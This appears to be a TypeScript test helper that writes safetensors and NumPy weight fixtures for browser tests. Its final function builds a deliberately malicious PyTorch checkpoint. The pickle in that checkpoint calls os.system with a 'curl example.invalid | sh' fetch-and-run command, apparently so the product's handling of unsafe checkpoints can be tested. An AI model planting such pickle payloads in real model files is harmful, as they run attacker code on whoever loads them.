/** Weight files the browser tests make for themselves, and a reader of their own for what the product wrote. */
import { readFileSync, writeFileSync } from 'node:fs'
import { checkpoint, pickle, str, tensor, zip } from '../../core/formats/archives/archives.ts'

export interface StoredTensor {
  readonly dtype: string
  readonly shape: readonly number[]
  readonly bytes: Uint8Array
}

/** Reads a safetensors file by its specification: 8 bytes of header length, JSON, data. */
export function readSafetensors(path: string): Map<string, StoredTensor> {
  const file = readFileSync(path)
  const headerLength = Number(file.readBigUInt64LE(0))
  const header = JSON.parse(file.toString('utf8', 8, 8 + headerLength)) as Record<
    string,
    { dtype: string; shape: number[]; data_offsets: [number, number] }
  >
  const tensors = new Map<string, StoredTensor>()
  for (const [name, entry] of Object.entries(header)) {
    if (name === '__metadata__') continue
    const [start, end] = entry.data_offsets
    // A copy: typed arrays need their own alignment.
    const bytes = new Uint8Array(file.subarray(8 + headerLength + start, 8 + headerLength + end))
    tensors.set(name, { dtype: entry.dtype, shape: entry.shape, bytes })
  }
  return tensors
}

export function floats(tensor: StoredTensor | undefined): Float32Array {
  if (tensor?.dtype !== 'F32') throw new Error(`expected an F32 tensor, got ${tensor?.dtype ?? 'none'}`)
  return new Float32Array(tensor.bytes.buffer)
}

/** ||W - B A||^2 and ||W||^2 in float64, by the definition: W m x n, B m x r, A r x n. */
export function squaredResidual(W: Float32Array, B: Float32Array, A: Float32Array, rank: number): [number, number] {
  const n = A.length / rank
  const m = B.length / rank
  const row = new Float64Array(n)
  let lost = 0
  let total = 0
  for (let i = 0; i < m; i++) {
    row.fill(0)
    for (let k = 0; k < rank; k++) {
      const b = B[i * rank + k]!
      for (let j = 0; j < n; j++) row[j]! += b * A[k * n + j]!
    }
    for (let j = 0; j < n; j++) {
      const w = W[i * n + j]!
      lost += (w - row[j]!) ** 2
      total += w ** 2
    }
  }
  return [lost, total]
}

/** An n x n F32 matrix of noise as an .npy file: enough work for an exact SVD to be interrupted. */
export function writeNoise(path: string, n: number): void {
  const header = `{'descr': '<f4', 'fortran_order': False, 'shape': (${n}, ${n}), }`
  const padded = header.padEnd(Math.ceil((10 + header.length + 1) / 64) * 64 - 10 - 1)
  const values = new Float32Array(n * n)
  let state = 1
  for (let i = 0; i < values.length; i++) {
    // Numerical Recipes' linear congruential generator.
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    values[i] = state / 2 ** 31 - 1
  }
  const prefix = Buffer.alloc(10)
  prefix.write('\x93NUMPY', 'latin1')
  prefix.writeUInt8(1, 6)
  prefix.writeUInt16LE(padded.length + 1, 8)
  writeFileSync(path, Buffer.concat([prefix, Buffer.from(`${padded}\n`), Buffer.from(values.buffer)]))
}

/** A safetensors file of zeros with so many tensors: matrices, vectors and convolutions in turn. */
export function writeManyTensors(path: string, count: number): void {
  const kinds = [
    { leaf: 'mlp.up_proj.weight', shape: [128, 96] },
    { leaf: 'norm.weight', shape: [96] },
    { leaf: 'conv.weight', shape: [64, 64, 3, 3] },
  ] as const
  const header: Record<string, unknown> = {}
  let offset = 0
  for (let i = 0; i < count; i++) {
    const { leaf, shape } = kinds[i % kinds.length]!
    const byteLength = shape.reduce((product: number, length) => product * length, 2)
    header[`model.layers.${Math.floor(i / kinds.length)}.${leaf}`] = {
      dtype: 'BF16',
      shape,
      data_offsets: [offset, offset + byteLength],
    }
    offset += byteLength
  }
  const json = Buffer.from(JSON.stringify(header))
  const length = Buffer.alloc(8)
  length.writeBigUInt64LE(BigInt(json.length))
  writeFileSync(path, Buffer.concat([length, json, Buffer.alloc(offset)]))
}

/** A safetensors file of F32 tensors. */
export function writeSafetensors(
  path: string,
  tensors: ReadonlyMap<string, { readonly shape: readonly number[]; readonly values: Float32Array }>,
): void {
  let at = 0
  const entries = [...tensors].map(([name, { shape, values }]) => {
    const start = at
    at += values.byteLength
    const data_offsets = [start, at]
    return [name, { dtype: 'F32', shape, data_offsets }]
  })
  const header = Buffer.from(JSON.stringify(Object.fromEntries(entries)))
  const length = Buffer.alloc(8)
  length.writeBigUInt64LE(BigInt(header.byteLength))
  const bytes = [...tensors.values()].map(({ values }) => new Uint8Array(values.buffer))
  writeFileSync(path, Buffer.concat([length, header, ...bytes]))
}

/** Two matrices as torch.save writes them, and a call of os.system. */
export function maliciousCheckpoint(): Uint8Array {
  const side = 96
  const storage = new Uint8Array(Float32Array.from({ length: side * side }, (_, i) => Math.sin(i * i)).buffer)
  const matrix = (key: string) => tensor({ shape: [side, side], strides: [side, 1], length: side * side, key })
  const program = pickle(
    0x80,
    2,
    '}(',
    str('layers.0.q_proj.weight'),
    matrix('0'),
    str('layers.0.k_proj.weight'),
    matrix('1'),
    str('hook'),
    "cposix\nsystem\n(S'curl example.invalid | sh'\ntR",
    'u.',
  )
  return zip(checkpoint(program, { 0: storage, 1: storage }))
}
